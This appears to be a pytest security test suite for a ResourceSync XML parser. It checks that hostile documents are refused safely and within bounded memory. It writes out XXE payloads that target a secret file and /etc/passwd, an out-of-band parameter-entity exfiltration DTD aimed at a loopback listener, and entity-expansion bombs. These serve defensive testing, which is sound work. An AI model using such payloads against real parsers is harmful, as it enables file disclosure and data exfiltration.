"""Hostile input against the one hardened XML entry point.

Every hostile document must end in the specific :class:`~resourcesync.errors.DocumentError`
subclass with a message a user can act on, in bounded time (``pytest.mark.timeout``) and
bounded memory (peak RSS of a fresh child process, compared with a child that only parses a
tiny valid document). Nothing may be fetched: network entities point at a loopback listener
that must see no connection, file entities at a secret file whose contents must appear
nowhere.
"""

from __future__ import annotations

import codecs
import contextlib
import gzip
import json
import random
import re
import socket
import subprocess
import sys
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

import pytest

from rspush.resourcesync import (
    MAX_DOCUMENT_BYTES,
    MAX_ENTRIES,
    RS_NS,
    SITEMAP_NS,
    Document,
    DocumentError,
    DocumentTooLargeError,
    MalformedXMLError,
    NotResourceSyncError,
    UnsafeXMLError,
    WrongNamespaceError,
    parse_chunks,
    parse_document,
    stream_document,
)
from rspush.resourcesync.parser import MAX_DEPTH
from tests.support.waiting import TIMEOUT_SCALE

from ._hostile_child import (
    CHANGELIST_MD,
    ENTRY,
    MIB,
    PROLOG,
    UP_LINK,
    URLSET_CLOSE,
    URLSET_OPEN,
    billion_laughs,
    change_list,
    change_list_chunks,
    change_list_of_size,
    deep_nesting,
    quadratic_blowup,
)

CHILD = Path(__file__).with_name("_hostile_child.py")

Parse = Callable[[bytes], Document]


def _parse_document(data: bytes) -> Document:
    return parse_document(data)


def _parse_chunks(data: bytes) -> Document:
    # 61-byte pieces: every construct of these small documents is split across feeds.
    return parse_chunks(data[i : i + 61] for i in range(0, len(data), 61))


def _stream_document(data: bytes) -> Document:
    stream = stream_document([data[i : i + 13] for i in range(0, len(data), 13)])
    entries = tuple(stream)
    assert stream.head is not None
    return Document.model_construct(
        root=stream.head.root, md=stream.head.md, links=stream.head.links, entries=entries
    )


ENTRY_POINTS = pytest.mark.parametrize(
    "parse",
    [_parse_document, _parse_chunks, _stream_document],
    ids=["parse_document", "parse_chunks", "stream_document"],
)


def refused(parse: Callable[[Any], Any], data: Any, kind: type[DocumentError]) -> DocumentError:
    """Parse ``data``, expecting exactly ``kind``; return the exception for more checks."""
    with pytest.raises(DocumentError) as caught:
        parse(data)
    exc = caught.value
    assert type(exc) is kind, f"expected {kind.__name__}, got {type(exc).__name__}: {exc}"
    assert exc.message, "an error must say what is wrong"
    return exc


def everything_said(exc: BaseException) -> str:
    """Every text the exception carries, including its chained causes."""
    parts: list[str] = []
    seen: BaseException | None = exc
    while seen is not None:
        parts += [str(seen), repr(seen), *map(str, getattr(seen, "args", ()))]
        error_log = getattr(seen, "error_log", None)
        if error_log is not None:
            parts.append(str(error_log))
        seen = seen.__cause__ or seen.__context__
    return "\n".join(parts)


def assert_has_line(exc: DocumentError, line: int | None = None) -> None:
    assert exc.line is not None, f"no line for: {exc}"
    assert exc.line >= 1, f"lines are 1-based, got {exc.line}: {exc}"
    if line is not None:
        assert exc.line == line, f"expected line {line}: {exc}"
    assert str(exc).startswith(f"line {exc.line}: ")


def doc(*lines: bytes) -> bytes:
    """A document from lines, so tests can say which line a problem is on."""
    return b"\n".join(lines) + b"\n"


URLSET_LINE = f'<urlset xmlns="{SITEMAP_NS}" xmlns:rs="{RS_NS}">'.encode()
MD_LINE = CHANGELIST_MD.strip()
VALID = doc(
    PROLOG.strip(),
    URLSET_LINE,
    MD_LINE,
    b'<url><loc>http://example.com/a</loc><rs:md change="updated"/></url>',
    b"</urlset>",
)


# --- loopback listener and secret file ------------------------------------------------


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A loopback TCP listener on port 0 that nobody should ever connect to.

    Non-blocking: a connection made by the parser (which would be synchronous) is queued by
    the kernel, so ``accept()`` right after the parse finds it; ``BlockingIOError`` means
    there was none. No waiting, no sleeps.
    """
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as server:
        server.bind(("127.0.0.1", 0))
        server.listen(8)
        server.setblocking(False)
        yield server


def port_of(server: socket.socket) -> int:
    return int(server.getsockname()[1])


def assert_no_connection(server: socket.socket) -> None:
    try:
        connection, peer = server.accept()
    except BlockingIOError:
        return
    connection.close()
    pytest.fail(f"the parser connected to the loopback listener from {peer}")


@pytest.mark.timeout(10)
def test_listener_sees_a_connection(listener: socket.socket) -> None:
    """Control: the listener does detect a connection, so 'no connection' means something."""
    import select

    with socket.create_connection(("127.0.0.1", port_of(listener)), timeout=5):
        readable, _, _ = select.select([listener], [], [], 5 * TIMEOUT_SCALE)
        assert readable == [listener]
        connection, _ = listener.accept()
        connection.close()
    assert_no_connection(listener)


SECRET = "S3CRET-d0cument-must-not-leak"


@pytest.fixture
def secret_file(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(f"{SECRET}\n")
    return path


def assert_no_leak(exc: BaseException, *markers: str) -> None:
    said = everything_said(exc)
    for marker in markers:
        assert marker not in said, f"{marker!r} leaked into the error"


PASSWD_MARKERS = ("root:x:0:0", "/bin/bash", "/usr/sbin/nologin", "daemon:")


# --- XXE -------------------------------------------------------------------------------


def with_dtd(dtd: bytes, body: bytes = b"") -> bytes:
    return doc(PROLOG.strip(), dtd, URLSET_LINE, MD_LINE, body, b"</urlset>")


@pytest.mark.timeout(10)
@ENTRY_POINTS
@pytest.mark.parametrize("target", ["secret", "passwd"])
def test_external_entity_to_a_local_file_is_refused(
    parse: Parse, target: str, secret_file: Path
) -> None:
    url = secret_file.as_uri() if target == "secret" else "file:///etc/passwd"
    data = with_dtd(
        f'<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "{url}">]>'.encode(),
        b"<url><loc>http://example.com/&xxe;</loc></url>",
    )
    exc = refused(parse, data, UnsafeXMLError)
    assert "DTD" in exc.message or "entit" in exc.message.lower()
    assert_has_line(exc)
    assert_no_leak(exc, SECRET, *PASSWD_MARKERS)


@pytest.mark.timeout(10)
@ENTRY_POINTS
def test_external_entity_over_http_is_refused_without_connecting(
    parse: Parse, listener: socket.socket
) -> None:
    url = f"http://127.0.0.1:{port_of(listener)}/secret"
    data = with_dtd(
        f'<!DOCTYPE urlset [<!ENTITY xxe SYSTEM "{url}">]>'.encode(),
        b"<url><loc>http://example.com/&xxe;</loc></url>",
    )
    exc = refused(parse, data, UnsafeXMLError)
    assert_has_line(exc)
    assert_no_connection(listener)


@pytest.mark.timeout(10)
@ENTRY_POINTS
def test_parameter_entities_are_refused_without_fetching(
    parse: Parse, listener: socket.socket, secret_file: Path, tmp_path: Path
) -> None:
    """External parameter entities, including the out-of-band exfiltration pattern: an
    external DTD that reads a file and sends it to a URL. Neither file nor URL is touched."""
    base = f"http://127.0.0.1:{port_of(listener)}"
    evil = tmp_path / "evil.dtd"
    evil.write_text(
        f'<!ENTITY % file SYSTEM "{secret_file.as_uri()}">\n'
        f"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '{base}/?%file;'>\">\n"
        "%eval; %exfil;\n"
    )
    for url in (f"{base}/p.dtd", evil.as_uri()):
        data = with_dtd(f'<!DOCTYPE urlset [<!ENTITY % remote SYSTEM "{url}"> %remote;]>'.encode())
        exc = refused(parse, data, UnsafeXMLError)
        assert_has_line(exc)
        assert_no_leak(exc, SECRET)
    assert_no_connection(listener)


@pytest.mark.timeout(10)
@ENTRY_POINTS
def test_parameter_entity_in_the_internal_subset_is_refused(
    parse: Parse, listener: socket.socket, secret_file: Path
) -> None:
    """The same pattern inline is not even well-formed XML (a PE reference inside a markup
    declaration of the internal subset); refused either as unsafe or as malformed."""
    base = f"http://127.0.0.1:{port_of(listener)}"
    data = with_dtd(
        (
            "<!DOCTYPE urlset [\n"
            f'<!ENTITY % file SYSTEM "{secret_file.as_uri()}">\n'
            f"<!ENTITY % eval \"<!ENTITY &#x25; exfil SYSTEM '{base}/?%file;'>\">\n"
            "%eval; %exfil;\n"
            "]>"
        ).encode()
    )
    with pytest.raises((UnsafeXMLError, MalformedXMLError)) as caught:
        parse(data)
    assert_no_leak(caught.value, SECRET)
    assert_no_connection(listener)


@pytest.mark.timeout(10)
@ENTRY_POINTS
@pytest.mark.parametrize("form", ["SYSTEM", "PUBLIC"])
def test_external_dtd_is_refused_without_fetching(
    parse: Parse, form: str, listener: socket.socket
) -> None:
    url = f"http://127.0.0.1:{port_of(listener)}/x.dtd"
    public = ' "-//Evil//DTD Sitemap//EN"' if form == "PUBLIC" else ""
    data = with_dtd(f'<!DOCTYPE urlset {form}{public} "{url}">'.encode())
    exc = refused(parse, data, UnsafeXMLError)
    assert "DTD" in exc.message
    assert_has_line(exc)
    assert_no_connection(listener)


@pytest.mark.timeout(10)
@ENTRY_POINTS
def test_external_dtd_file_defining_entities_is_not_loaded(parse: Parse, tmp_path: Path) -> None:
    dtd = tmp_path / "evil.dtd"
    dtd.write_text(f'<!ENTITY leak "{SECRET}">\n')
    data = with_dtd(
        f'<!DOCTYPE urlset SYSTEM "{dtd.as_uri()}">'.encode(),
        b"<url><loc>http://example.com/&leak;</loc></url>",
    )
    exc = refused(parse, data, UnsafeXMLError)
    assert_no_leak(exc, SECRET)


@pytest.mark.parametrize(
    "dtd",
    [
        b"<!DOCTYPE urlset>",
        b"<!DOCTYPE urlset []>",
        b'<!DOCTYPE urlset [<!ATTLIST urlset extra CDATA "x">]>',
        b'<!DOCTYPE urlset [<!ENTITY harmless "text">]>',
    ],
    ids=["bare", "empty-subset", "attlist", "unused-entity"],
)
def test_any_doctype_is_refused(dtd: bytes) -> None:
    """ResourceSync never needs a DTD, so even a harmless-looking one is refused."""
    exc = refused(_parse_document, with_dtd(dtd), UnsafeXMLError)
    assert "DTD" in exc.message
    # The DOCTYPE is on line 2, the root element on line 3: either is a fair place to point.
    assert exc.line in (2, 3), str(exc)


@pytest.mark.timeout(10)
def test_xinclude_is_not_processed(listener: socket.socket, secret_file: Path) -> None:
    xi = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    data = doc(
        URLSET_LINE,
        MD_LINE,
        f'<url><loc><xi:include {xi} href="{secret_file.as_uri()}"/></loc></url>'.encode(),
        f'<url><loc>http://example.com/<xi:include {xi} parse="text"'
        f' href="http://127.0.0.1:{port_of(listener)}/x"/></loc></url>'.encode(),
        b"</urlset>",
    )
    document = parse_document(data)
    assert SECRET not in repr(document.entries)
    assert_no_connection(listener)


@pytest.mark.parametrize(
    "body",
    [
        b"<url><loc>http://example.com/&xxe;</loc></url>",
        b'<url><loc>http://example.com/a</loc><rs:md change="&xxe;"/></url>',
    ],
    ids=["in-text", "in-attribute"],
)
def test_undeclared_entity_is_refused_naming_it(body: bytes) -> None:
    """An entity reference without any DTD: refused, saying which entity and where."""
    data = doc(URLSET_LINE, MD_LINE, body, b"</urlset>")
    with pytest.raises((UnsafeXMLError, MalformedXMLError)) as caught:
        parse_document(data)
    exc = caught.value
    assert isinstance(exc, DocumentError)
    assert "xxe" in exc.message, str(exc)
    assert_has_line(exc, 3)


# --- entity expansion ------------------------------------------------------------------


@pytest.mark.timeout(10)
@pytest.mark.parametrize("chunk", [MIB, 64], ids=["1MiB-chunks", "64B-chunks"])
def test_billion_laughs_is_refused(chunk: int) -> None:
    data = billion_laughs(levels=10, fanout=10)
    pieces = [data[i : i + chunk] for i in range(0, len(data), chunk)]
    exc = refused(parse_chunks, pieces, UnsafeXMLError)
    assert re.search(r"DTD|entit", exc.message, re.IGNORECASE), str(exc)
    assert_has_line(exc)


@pytest.mark.timeout(10)
def test_billion_laughs_in_an_attribute_is_refused() -> None:
    data = billion_laughs().replace(
        b"<url><loc>http://example.com/&lol10;</loc></url>",
        b'<url><loc>http://example.com/</loc><rs:md change="&lol10;"/></url>',
    )
    assert b'change="&lol10;"' in data
    refused(_parse_document, data, UnsafeXMLError)


@pytest.mark.timeout(10)
@pytest.mark.parametrize("where", ["text", "attribute"])
def test_quadratic_blowup_is_refused(where: str) -> None:
    data = quadratic_blowup(entity_bytes=100_000, references=10_000)
    if where == "attribute":
        data = data.replace(b"<url><loc>http://example.com/", b'<url><loc>x</loc><rs:md path="')
        data = data.replace(b"</loc></url>", b'"/></url>')
        assert b'<rs:md path="&a;&a;' in data
    exc = refused(_parse_document, data, UnsafeXMLError)
    assert_has_line(exc)


# --- deep nesting ----------------------------------------------------------------------


@pytest.mark.timeout(10)
def test_deep_nesting_is_refused() -> None:
    exc = refused(_parse_document, deep_nesting(100_000), MalformedXMLError)
    assert re.search(r"nest|depth", exc.message), str(exc)
    assert_has_line(exc, 5)


@pytest.mark.timeout(10)
def test_deep_nesting_fed_in_small_chunks_is_refused_by_the_depth_limit() -> None:
    data = deep_nesting(100_000)
    # Small enough that the parser's own MAX_DEPTH check runs before libxml2's limit of 256.
    pieces = (data[i : i + 64] for i in range(0, len(data), 64))
    exc = refused(parse_chunks, pieces, MalformedXMLError)
    assert "nested deeper than" in exc.message
    assert_has_line(exc, 5)


@ENTRY_POINTS
def test_nesting_limit_boundary(parse: Parse) -> None:
    """Extensions may nest a little (urlset > url > ext…) up to MAX_DEPTH, not one more."""

    def nested(levels: int) -> bytes:
        ext = b'<e:x xmlns:e="http://example.org/ext">' + b"<e:x>" * (levels - 1)
        close = b"</e:x>" * levels
        return doc(
            URLSET_LINE,
            MD_LINE,
            b"<url><loc>http://example.com/a</loc>" + ext + close + b"</url>",
            b"</urlset>",
        )

    allowed = MAX_DEPTH - 2  # urlset and url take two levels
    assert len(parse(nested(allowed)).entries) == 1
    exc = refused(parse, nested(allowed + 1), MalformedXMLError)
    assert f"nested deeper than {MAX_DEPTH}" in exc.message
    assert_has_line(exc, 3)


# --- size ------------------------------------------------------------------------------


@pytest.mark.timeout(20)
def test_60mb_document_is_refused_before_parsing() -> None:
    data = change_list_of_size(60 * MIB)
    for parse in (parse_document, lambda d: parse_chunks([d])):
        with pytest.raises(DocumentTooLargeError) as caught:
            parse(data)
        message = caught.value.message
        assert "limit" in message
        assert str(MAX_DOCUMENT_BYTES) in message
        assert caught.value.line is None  # a size has no line


@pytest.mark.timeout(30)
@pytest.mark.parametrize("entry_point", ["parse_chunks", "stream_document"])
def test_60mb_stream_stops_at_the_cap_without_reading_the_rest(entry_point: str) -> None:
    consumed = 0

    def chunks() -> Iterator[bytes]:
        nonlocal consumed
        for piece in change_list_chunks(60 * MIB, MIB):
            consumed += 1
            yield piece

    with pytest.raises(DocumentTooLargeError) as caught:
        if entry_point == "parse_chunks":
            parse_chunks(chunks())
        else:
            for _ in stream_document(chunks()):
                pass
    assert "limit" in caught.value.message
    assert str(MAX_DOCUMENT_BYTES) in caught.value.message
    # The chunk that crosses 50 MiB is the last one read; the other 9 MiB are never produced.
    assert consumed == MAX_DOCUMENT_BYTES // MIB + 1


@pytest.mark.parametrize("entry_point", ["parse_document", "parse_chunks", "stream_document"])
def test_small_custom_cap_boundary(entry_point: str) -> None:
    cap = 4096
    under, exact, over = (change_list_of_size(cap + delta) for delta in (-1, 0, 1))

    def parse(data: bytes) -> int:
        if entry_point == "parse_document":
            return len(parse_document(data, max_bytes=cap).entries)
        pieces = [data[i : i + 100] for i in range(0, len(data), 100)]
        if entry_point == "parse_chunks":
            return len(parse_chunks(pieces, max_bytes=cap).entries)
        return len(list(stream_document(pieces, max_bytes=cap)))

    assert parse(under) > 0
    assert parse(exact) > 0
    with pytest.raises(DocumentTooLargeError) as caught:
        parse(over)
    assert str(cap) in caught.value.message


@pytest.mark.timeout(30)
def test_more_entries_than_a_sitemap_may_hold_is_refused_while_streaming() -> None:
    """Z39.99 §7 caps a document at 50,000 entries. Under the byte cap, tiny entries would
    otherwise turn 50 MB into millions of models (~1 KB each): the parser must stop."""
    total = MAX_ENTRIES + 10_000
    consumed = 0

    def chunks() -> Iterator[bytes]:
        nonlocal consumed
        buffer = bytearray(PROLOG + URLSET_OPEN + UP_LINK + CHANGELIST_MD)
        for index in range(total):
            buffer += ENTRY % index
            if len(buffer) >= MIB:
                consumed += 1
                yield bytes(buffer)
                buffer.clear()
        consumed += 1
        yield bytes(buffer + URLSET_CLOSE)

    all_chunks = -(-total * len(ENTRY % 0) // MIB)
    with pytest.raises(DocumentTooLargeError) as caught:
        parse_chunks(chunks())
    assert re.search(r"entries", caught.value.message), str(caught.value)
    assert consumed < all_chunks


# --- namespaces ------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("root", "namespace"),
    [
        (b"<urlset>", "no namespace"),
        (b'<urlset xmlns="http://www.google.com/schemas/sitemap/0.84">', "0.84"),
        (b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.84">', "0.84"),
        (b'<urlset xmlns="https://www.sitemaps.org/schemas/sitemap/0.9">', "https://"),
        (b'<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9/">', "0.9/"),
        (f'<rs:urlset xmlns:rs="{RS_NS}">'.encode(), RS_NS),
        (b'<sitemapindex xmlns="http://www.google.com/schemas/sitemap/0.84">', "0.84"),
    ],
    ids=["none", "google-0.84", "sitemaps-0.84", "https", "trailing-slash", "rs", "index"],
)
def test_root_in_the_wrong_namespace_is_refused(root: bytes, namespace: str) -> None:
    close = b"</" + root[1:].split(b" ")[0].rstrip(b">") + b">"
    data = doc(PROLOG.strip(), root, b'<md capability="changelist"/>', close)
    exc = refused(_parse_document, data, WrongNamespaceError)
    assert SITEMAP_NS in exc.message, "must name the namespace it expects"
    assert namespace in exc.message, "must name the namespace it found"
    assert_has_line(exc, 2)


def test_sitemap_namespace_root_of_another_name_is_not_resourcesync() -> None:
    data = doc(f'<feed xmlns="{SITEMAP_NS}">'.encode(), b"</feed>")
    exc = refused(_parse_document, data, NotResourceSyncError)
    assert "<feed>" in exc.message
    assert_has_line(exc, 1)


NEAR_MISS_RS = RS_NS.rstrip("/")


def near_miss(*body: bytes) -> bytes:
    return doc(
        f'<urlset xmlns="{SITEMAP_NS}" xmlns:rs="{NEAR_MISS_RS}" xmlns:ok="{RS_NS}">'.encode(),
        *body,
        b"</urlset>",
    )


def test_near_miss_rs_namespace_is_a_wrong_namespace_problem() -> None:
    data = near_miss(
        MD_LINE,
        b'<rs:ln rel="up" href="http://example.com/cl.xml"/>',
        b'<ok:md capability="changelist"/>',
        b"<url><loc>http://example.com/a</loc></url>",
    )
    document = parse_document(data)
    assert document.capability == "changelist"
    wrong = [p for p in document.problems if p.rule == "wrong-namespace"]
    assert [p.line for p in wrong] == [2, 3]
    for problem in wrong:
        assert NEAR_MISS_RS in problem.message
        assert RS_NS in problem.message
    assert document.links == ()  # the near-miss rs:ln is not taken as a link


@pytest.mark.parametrize("with_entry", [True, False], ids=["with-entry", "no-entries"])
def test_near_miss_rs_namespace_alone_is_not_resourcesync(with_entry: bool) -> None:
    body = [MD_LINE]
    if with_entry:
        body.append(b"<url><loc>http://example.com/a</loc></url>")
    exc = refused(_parse_document, near_miss(*body), NotResourceSyncError)
    assert "rs:md" in exc.message
    if with_entry:
        assert_has_line(exc, 3)


# --- not XML, truncated, HTML ----------------------------------------------------------


def _binary_noise() -> bytes:
    return random.Random(20240101).randbytes(2000)


@pytest.mark.parametrize(
    "data",
    [
        b"hello, world",
        b'{"urlset": []}',
        b"   \n\t  ",
        b"\x00" * 64,
        _binary_noise(),
        gzip.compress(VALID, mtime=0),
        VALID.replace(b"http://example.com/a", b"http://example.com/\x00a"),
        VALID.replace(b"http://example.com/a", b"http://example.com/&#0;"),
        VALID + b"<urlset/>",
        doc(
            b"<!DOCTYPE html>",
            b'<html lang="en"><head><meta charset="utf-8"><title>404</title></head>',
            b"<body><p>Not found<br></body></html>",
        ),
    ],
    ids=[
        "text",
        "json",
        "whitespace",
        "nul",
        "noise",
        "gzip",
        "nul-in-loc",
        "charref-0",
        "two-roots",
        "html5-page",
    ],
)
def test_not_xml_is_malformed(data: bytes) -> None:
    exc = refused(_parse_document, data, MalformedXMLError)
    assert re.search(r"XML|UTF-8", exc.message), str(exc)
    assert_has_line(exc)


def test_xhtml_page_is_not_resourcesync() -> None:
    data = doc(
        PROLOG.strip(),
        b'<html xmlns="http://www.w3.org/1999/xhtml"><head><title>Sitemap</title></head>',
        b"<body><p>Nothing here.</p></body></html>",
    )
    exc = refused(_parse_document, data, NotResourceSyncError)
    assert "<html>" in exc.message
    assert_has_line(exc, 2)


@pytest.mark.timeout(10)
def test_xhtml_page_with_doctype_is_refused_without_fetching(listener: socket.socket) -> None:
    dtd_url = f"http://127.0.0.1:{port_of(listener)}/xhtml1-strict.dtd"
    data = doc(
        PROLOG.strip(),
        f'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{dtd_url}">'.encode(),
        b'<html xmlns="http://www.w3.org/1999/xhtml"><body>&nbsp;</body></html>',
    )
    with pytest.raises((UnsafeXMLError, MalformedXMLError, NotResourceSyncError)):
        parse_document(data)
    assert_no_connection(listener)


@pytest.mark.parametrize("parse", [_parse_document, _parse_chunks], ids=["bytes", "chunks"])
def test_every_truncation_is_malformed(parse: Parse) -> None:
    complete = VALID.rstrip()
    for cut in range(1, len(complete)):
        exc = refused(parse, complete[:cut], MalformedXMLError)
        assert_has_line(exc)
    assert len(parse(complete).entries) == 1


@pytest.mark.parametrize(
    "parse",
    [
        parse_document,
        lambda _: parse_chunks([]),
        lambda _: parse_chunks([b"", b""]),
        lambda _: list(stream_document(iter(()))),
    ],
    ids=["parse_document", "parse_chunks-no-chunks", "parse_chunks-empty-chunks", "stream"],
)
def test_empty_input_is_malformed(parse: Callable[[bytes], object]) -> None:
    exc = refused(parse, b"", MalformedXMLError)
    assert "empty" in exc.message.lower(), str(exc)
    # Nothing to point at: no line rather than the meaningless "line 0".
    assert exc.line is None or exc.line >= 1, str(exc)


# --- encodings -------------------------------------------------------------------------

BAD_UTF8 = {
    "lone-continuation": b"\x80",
    "invalid-byte": b"\xff\xfe",
    "truncated-sequence": b"\xc3(",
    "overlong-slash": b"\xc0\xaf",
    "surrogate": b"\xed\xa0\x80",
    "above-10ffff": b"\xf4\x90\x80\x80",
}


@pytest.mark.parametrize("parse", [_parse_document, _parse_chunks], ids=["bytes", "chunks"])
@pytest.mark.parametrize("where", ["loc", "attribute"])
@pytest.mark.parametrize("sequence", list(BAD_UTF8.values()), ids=list(BAD_UTF8))
def test_invalid_utf8_is_malformed(parse: Parse, where: str, sequence: bytes) -> None:
    if where == "loc":
        line = b"<url><loc>http://example.com/" + sequence + b"</loc></url>"
    else:
        line = b'<url><loc>http://example.com/</loc><rs:md type="text/' + sequence + b'"/></url>'
    data = doc(PROLOG.strip(), URLSET_LINE, MD_LINE, line, b"</urlset>")
    exc = refused(parse, data, MalformedXMLError)
    assert re.search(r"encoding|UTF-8|Char", exc.message, re.IGNORECASE), str(exc)
    assert_has_line(exc, 4)


def test_valid_utf8_split_across_chunks_is_accepted() -> None:
    loc = "http://example.com/" + "é€𝄞" * 50
    data = doc(URLSET_LINE, MD_LINE, f"<url><loc>{loc}</loc></url>".encode(), b"</urlset>")
    for size in (1, 2, 3, 5):
        pieces = [data[i : i + size] for i in range(0, len(data), size)]
        assert parse_chunks(pieces).entries[0].loc == loc


def _body_text() -> str:
    return doc(
        URLSET_LINE, MD_LINE, b"<url><loc>http://example.com/a</loc></url>", b"</urlset>"
    ).decode()


@pytest.mark.parametrize(
    "data",
    [
        b'<?xml version="1.0" encoding="ISO-8859-1"?>\n'
        + _body_text().replace("/a<", "/caf\xe9<").encode("latin-1"),
        b'<?xml version="1.0" encoding="ISO-8859-1"?>\n' + _body_text().encode("ascii"),
        b'<?xml version="1.0" encoding="windows-1252"?>\n' + _body_text().encode("cp1252"),
        ('<?xml version="1.0" encoding="UTF-16"?>\n' + _body_text()).encode("utf-16"),
        _body_text().encode("utf-16"),
        ('<?xml version="1.0" encoding="UTF-16LE"?>\n' + _body_text()).encode("utf-16-le"),
        codecs.BOM_UTF32_LE + _body_text().encode("utf-32-le"),
    ],
    ids=[
        "latin-1",
        "latin-1-ascii-only",
        "cp1252",
        "utf-16",
        "utf-16-bom-only",
        "utf-16le",
        "utf-32",
    ],
)
def test_documents_not_in_utf8_are_refused(data: bytes) -> None:
    exc = refused(_parse_document, data, MalformedXMLError)
    assert "UTF-8" in exc.message, str(exc)
    assert_has_line(exc)


@pytest.mark.parametrize(
    "prolog",
    [
        b'<?xml version="1.0" encoding="UTF-8"?>\n',
        b"<?xml version='1.0' encoding='utf-8'?>\n",
        codecs.BOM_UTF8,
        codecs.BOM_UTF8 + PROLOG,
        b"",
    ],
    ids=["declared", "lowercase", "bom", "bom-and-declared", "undeclared"],
)
def test_utf8_documents_are_accepted(prolog: bytes) -> None:
    assert parse_document(prolog + _body_text().encode()).entries[0].loc.endswith("/a")


# --- plain Sitemaps --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "line"),
    [
        (doc(URLSET_LINE, b"<url><loc>http://example.com/a</loc></url>", b"</urlset>"), 2),
        (doc(URLSET_LINE, b"</urlset>"), None),
        (
            doc(
                URLSET_LINE,
                b"<url><loc>http://example.com/a</loc></url>",
                MD_LINE,
                b"</urlset>",
            ),
            2,
        ),
        (
            doc(
                f'<sitemapindex xmlns="{SITEMAP_NS}">'.encode(),
                b"<sitemap><loc>http://example.com/s.xml</loc></sitemap>",
                b"</sitemapindex>",
            ),
            2,
        ),
    ],
    ids=["urlset", "empty-urlset", "md-after-entry", "sitemapindex"],
)
def test_plain_sitemap_is_not_resourcesync(data: bytes, line: int | None) -> None:
    exc = refused(_parse_document, data, NotResourceSyncError)
    assert "rs:md" in exc.message
    assert "Sitemap" in exc.message
    if line is not None:
        assert_has_line(exc, line)


# --- attribute values that do not convert must not crash --------------------------------


DIGITS = b"9" * 5000  # past Python's int/str conversion limit (4,300 digits)


@pytest.mark.parametrize(
    ("md", "rules"),
    [
        # A 5,000-digit length is an integer, just absurd: kept or reported, either is fine.
        (b'<rs:md capability="changelist" length="' + DIGITS + b'"/>', {"length-integer", None}),
        (
            MD_LINE + b'\n<rs:ln rel="alternate" href="http://e/x" pri="' + DIGITS + b'"/>',
            {"pri-integer", "pri-range"},
        ),
        (b'<rs:md capability="changelist" from="0001-01-01T00:00:00+01:00"/>', {"datetime-syntax"}),
        (
            b'<rs:md capability="changelist" until="9999-12-31T23:59:59-01:00"/>',
            {"datetime-syntax"},
        ),
    ],
    ids=["length-5000-digits", "pri-5000-digits", "before-year-1-in-utc", "after-9999-in-utc"],
)
def test_unconvertible_attribute_values_become_problems(md: bytes, rules: set[str | None]) -> None:
    """The parser's contract: bad values are Document.problems, never a stray exception."""
    data = doc(URLSET_LINE, md, b"<url><loc>http://example.com/a</loc></url>", b"</urlset>")
    document = parse_document(data)
    found = {p.rule for p in document.problems} or {None}
    assert found <= rules, [str(p) for p in document.problems]
    if None in found:
        assert document.md.length is not None
    assert all(p.line in (2, 3) for p in document.problems)  # the md line, or the ln line


def test_unconvertible_lastmod_becomes_a_problem() -> None:
    data = doc(
        URLSET_LINE,
        MD_LINE,
        b"<url><loc>http://example.com/a</loc><lastmod>9999-12-31T23:00:00-02:00</lastmod></url>",
        b"</urlset>",
    )
    document = parse_document(data)
    assert [p.rule for p in document.problems] == ["datetime-syntax"]
    assert document.entries[0].lastmod is None


@pytest.mark.timeout(20)
def test_mutated_documents_raise_only_document_errors() -> None:
    """Random byte edits of a rich document: a Document or a DocumentError, nothing else."""
    base = change_list(
        b"".join(ENTRY % i for i in range(3))
        + b"<url><loc>http://example.com/x</loc><lastmod>2024-01-01</lastmod>"
        b'<priority>0.5</priority><rs:ln rel="alternate" href="http://example.com/y"'
        b' pri="1" length="3" modified="2024-01-01T00:00:00Z"/></url>\n'
    )
    rng = random.Random(1)
    alphabet = b"<>/&;\"'=:#x \n\x00\xff\xc3abc0123456789-T+Z."
    for _ in range(3000):
        data = bytearray(base)
        for _ in range(rng.randint(1, 4)):
            position = rng.randrange(len(data))
            operation = rng.randrange(3)
            if operation == 0:
                data[position] = rng.choice(alphabet)
            elif operation == 1:
                data.insert(position, rng.choice(alphabet))
            else:
                del data[position]
        with contextlib.suppress(DocumentError):
            parse_document(bytes(data))


# --- memory and time, measured in fresh child processes ----------------------------------


def run_child(case: str, timeout: float = 30) -> dict[str, object]:
    try:
        result = subprocess.run(
            [sys.executable, str(CHILD), case],
            capture_output=True,
            text=True,
            timeout=timeout * TIMEOUT_SCALE,
            check=False,
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"parsing {case!r} took longer than {timeout * TIMEOUT_SCALE:.0f} s")
    assert result.returncode == 0, f"child {case!r} failed:\n{result.stderr}"
    outcome: dict[str, object] = json.loads(result.stdout)
    return outcome


@pytest.fixture(scope="module")
def baseline_kib() -> int:
    """Peak RSS of a child that imports resourcesync and parses a tiny valid document."""
    outcome = run_child("baseline")
    assert outcome["error"] is None
    peak = outcome["peak_kib"]
    assert isinstance(peak, int)
    return peak


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    ("case", "error", "extra_mib"),
    [
        # The 60 MiB of input is itself in the child; the parser may add little on top.
        ("too_large_60mb", "DocumentTooLargeError", 60 + 32),
        ("billion_laughs", "UnsafeXMLError", 32),
        ("quadratic_blowup", "UnsafeXMLError", 32),
        ("deep_nesting", "MalformedXMLError", 32),
    ],
)
def test_hostile_documents_are_refused_in_bounded_memory(
    baseline_kib: int, case: str, error: str, extra_mib: int
) -> None:
    outcome = run_child(case)
    assert outcome["error"] == error, outcome
    peak = outcome["peak_kib"]
    assert isinstance(peak, int)
    assert peak - baseline_kib < extra_mib * 1024, (
        f"{case}: peak {peak // 1024} MiB vs baseline {baseline_kib // 1024} MiB"
    )


@pytest.mark.timeout(60)
def test_problem_reports_are_bounded(baseline_kib: int) -> None:
    """1 MB of unknown elements (250,000 problems) must not cost hundreds of MB.

    Some cost per 1 MB chunk is inherent (lxml builds the chunk's nodes and event proxies
    before the parser sees them: ~80 MiB for 250,000 tiny elements), but it must not grow
    with the number of problems, or 50 MB of ``<x/>`` would take gigabytes."""
